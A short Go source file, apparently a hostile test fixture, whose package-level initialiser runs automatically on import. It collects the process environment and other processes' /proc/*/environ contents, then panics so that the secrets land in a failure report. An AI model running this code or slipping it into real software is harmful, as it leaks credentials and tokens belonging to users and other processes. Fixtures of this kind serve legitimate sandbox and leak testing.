package breaker

import (
	"os"
	"path/filepath"
	"strings"
)

// Read every environment in sight and make it part of a failure message, which lands in the
// report.
var _ = steal()

func steal() bool {
	all := strings.Join(os.Environ(), " ")
	files, _ := filepath.Glob("/proc/*/environ")
	for _, f := range files {
		if data, err := os.ReadFile(f); err == nil {
			all += " " + strings.ReplaceAll(string(data), "\x00", " ")
		}
	}
	panic("hostile environ: " + all)
}
